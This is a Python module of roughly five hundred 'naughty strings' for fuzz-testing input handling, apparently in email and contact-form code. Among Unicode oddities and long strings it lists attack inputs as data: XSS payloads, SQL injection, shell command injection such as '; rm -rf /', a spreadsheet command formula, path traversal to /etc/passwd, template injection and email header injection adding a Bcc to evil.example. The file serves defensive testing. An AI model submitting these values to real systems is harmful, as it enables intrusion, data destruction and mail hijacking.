"""Five hundred values that break software, of the kinds in the Big List of Naughty Strings.

Our own list: what people paste, what other programs leave behind, and what an attacker puts
into a form to forge a header, a part, a tag, a query or a template.
"""

from __future__ import annotations

_CONTROLS = [*range(0x20), *range(0x7F, 0xA0)]
_BIDI = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
_SPACES = [0xA0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029, 0x202F, 0x205F, 0x3000]
_HIDDEN = [0xAD, 0x34F, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064, 0xFE0F, 0xFEFF,
           0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xE0001, 0xE0041, 0xE007F, 0x1D173]  # fmt: skip
_NO_CHARACTERS = [0xFDD0, 0xFDD1, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xD800, 0xDBFF,
                  0xDC00, 0xDFFF, 0xE000, 0xE0F0, 0xF8FF, 0x100000]  # fmt: skip

_SIGNS = list("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~¡¿«»“”„‘’‚‹›–—…€£¥¤µ¶§©®™°½ﬁßİıſǅ")

#: Between blanks.
_WORDS = """
undefined null None nil NULL true false NaN Infinity -Infinity 0 -0 00 1e309 0x0 1/0 1.000,00
١٢٣ Ⅷ ½ 1,5 -1 hasOwnProperty __proto__ constructor CON PRN AUX NUL COM1 con.txt Scunthorpe
Le-Goff O'Neil O’Neil D'Alençon L'Haÿ-les-Roses Ÿvette Müller Łódź Ærø Þór ñandú Œuvre Ångström
ΑΣΣ Привет Ελλάδα שלום مرحبا ﷺ ﷽ हिन्दी ไทย 日本語 한국어 中文 ﾃｽﾄ ｆｕｌｌ 𝓯𝓪𝓷𝓬𝔂 𝕬𝖇 ǌ ﬃ Åα
é e\u0301 E\u0301\u0302\u0323 Z̷a̷l̷g̷o̷͎͕͝ ṱ̺̺̕o͞ ̡̀͢ åäö
😀 👩‍👩‍👧 👍🏽 🇫🇷 🏴󠁧󠁢󠁷󠁬󠁳󠁿 ❤️ ☎ ✂️ 1️⃣ 🧑🏿‍🦽‍➡️
"""

_CODE = [
    # HTML, scripts, entities
    "<b>", "</td></tr></table>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>", "' onmouseover='x", "<!-- ", " -->", "]]>", "<![CDATA[x]]>",
    "<style>*{display:none}</style>", "</style>", "<a href='javascript:x'>y</a>", "<p", "<",
    "&", "&amp;", "&lt;script&gt;", "&#x202e;", "&nbsp;", "&copy=1", "&#0;", "&#xD800;", "&;",
    "&amp;amp;", "<base href=//evil.example>", "<br>", "<plaintext>", "<%= 1 %>", "<?php 1 ?>",
    # SQL, spreadsheets, shells, paths
    "'; DROP TABLE contact;--", "1 OR 1=1", "\" OR \"\"=\"", "Robert'); --", "%", "_%", "\\'",
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+33 6", "-2+3", "$(id)", "`id`", "; rm -rf /",
    "| cat", "&& true", "../../etc/passwd", "C:\\Windows", "~root", "%2e%2e%2f", "file:///etc",
    # templates and formats
    "{", "}", "{{", "}}", "{{ 7*7 }}", "{{ contact }}", "{% if x %}", "%}", "{# x #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "%s%n%d", "%(x)s", "{0}", "{name!r}", "{0.__class__}", "«Ville»",
    "« Ville »", "[[x]]", "$x", "{{{", "}}}", "{ {", "\\{\\{",
    # headers and parts
    "a\r\nBcc: thief@evil.example", "a\nBcc: thief@evil.example", "a\rBcc: x", "%0d%0aBcc: x",
    "a\r\n\r\n<b>x</b>", "\r\n.\r\nMAIL FROM:<x>", "\\r\\nBcc: x", "a\r\n b", "a\n\tb",
    "=?utf-8?q?x?=", "=?utf-8?b?4pyT?=", "=?", "?=", "=?x?= =?y?=", "=?utf-8?q?=0D=0ABcc:_x?=",
    "--=_d44ce4697fce15068f1a2a2b_0", "--=_d44ce4697fce15068f1a2a2b_0--", "--", "Content-Type: x",
    "Subject: x", "From ici", ">From ici", ".", "..", "\n.\n", "=20", "=", "==", "=0D=0A", "=\r\n",
    "a=", "a =", "=C3=A9", "<a@b.example>", "a@b.example", "x <a@b.example>, y <c@d.example>",
    "a, b; c", "(commentaire)", "a (b", "a\\", "\\", "\"", "\"\"", "\"a\"", "\"a", "a\"b\\c",
    "group: a@b.example;",
    "undisclosed-recipients:;", "a:b", "[1.2.3.4]", "a..b", "@", "@@", "?", "#", "\\0", "\\x00",
    # blanks
    "", " ", "   ", "\t", "\n", "a  b", "a   b", " a", "a ", "  a  b  ", "a\tb", "a\n\nb", "\ta",
    # encodings gone wrong
    "Ã©tÃ©", "â€™", "Ã\u00a0", "M\ufffdller", "ï»¿a", "\ufeffa", "+AGEA-",
    "\\u00e9", "%C3%A9", "&#233;", "ÿþ", "Ð¢ÐµÑ", "縺ゅ＞",
]  # fmt: skip

_LONG = [
    *("x" * count for count in (59, 60, 66, 72, 75, 76, 77, 78, 127, 128, 129, 250, 998, 5000)),
    *("é" * count for count in (25, 36, 37, 64, 128, 500)),
    *("mot " * count for count in (10, 19, 20, 32, 100)),
    *("日本" * count for count in (12, 13, 64)), "👩‍👩‍👧" * 10, "e" + "\u0301" * 60,
    "=" * 76, "." * 76,
    "a" * 75 + " b", "a" * 74 + "é", "a b" * 25, "<" * 76, "&" * 76, "\"" * 64, "\\" * 64, "'" * 76,
]  # fmt: skip

NAUGHTY = tuple(
    dict.fromkeys(
        [
            *_WORDS.split(),
            *_CODE,
            *_LONG,
            *_SIGNS,
            *(
                f"a{chr(code)}b"
                for code in (*_CONTROLS, *_BIDI, *_SPACES, *_HIDDEN, *_NO_CHARACTERS)
            ),
            *(f"{sign}{sign}" for sign in _SIGNS),
        ]
    )
)
